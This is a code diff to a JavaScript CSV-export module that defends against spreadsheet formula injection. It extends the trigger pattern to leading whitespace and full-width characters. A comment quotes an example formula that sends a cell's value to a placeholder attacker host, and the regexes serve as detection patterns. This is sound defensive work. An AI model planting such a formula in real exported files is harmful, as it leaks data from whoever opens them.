@@ -5,6 +5,10 @@
  * a cell that begins with `=`, `+`, `-` or `@` (and some also after a leading tab or carriage
  * return), so `=HYPERLINK("http://evil/?"&A1)` would run on the investigator's machine. Such a
  * cell is written with a single quote in front; spreadsheets show the quote, never evaluate.
+ * OWASP's list (= + - @, tab, CR) is widened two ways: a trigger after leading whitespace
+ * (space, NBSP, U+3000, LF, tab, CR…), since some importers trim it first, and the full-width
+ * forms `＝ ＋ － ＠`, which Japanese Excel reportedly reads as the ASCII ones. A cell that
+ * merely starts with whitespace is left alone.
  *
  * The neutralization is reversible: a cell that already begins with quotes followed by one of
  * those characters gets one more quote too, so `unNeutralizeCell` (drop one leading quote when
@@ -18,9 +22,14 @@
 
 import { escapeCell, unEscapeCell } from './cellEscapes.js';
 
-/** A cell whose text, after any leading quotes, starts with one of these is neutralized. */
-const NEEDS_QUOTE_PREFIX = /^'*[=+\-@\t\r]/;
-const NEUTRALIZED = /^'+[=+\-@\t\r]/;
+/** A formula's first character, ASCII or full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20). */
+const FORMULA_START = '[=+\\-@\\uff1d\\uff0b\\uff0d\\uff20]';
+/** What makes a cell a formula to some spreadsheet: a tab or CR, or a formula after whitespace. */
+const TRIGGER = `(?:\\s*${FORMULA_START}|[\\t\\r])`;
+/** A cell whose text, after any leading quotes, starts with a trigger is neutralized. */
+const NEEDS_QUOTE_PREFIX = new RegExp(`^'*${TRIGGER}`);
+/** The same cells with at least one quote: exactly what neutralizeFormula wrote. */
+const NEUTRALIZED = new RegExp(`^'+${TRIGGER}`);
 /** RFC 4180: a field with a quote, comma or line break is quoted; edge spaces too, so no reader trims them. */
 const NEEDS_CSV_QUOTES = /[",\r\n]|^\s|\s$/;
 
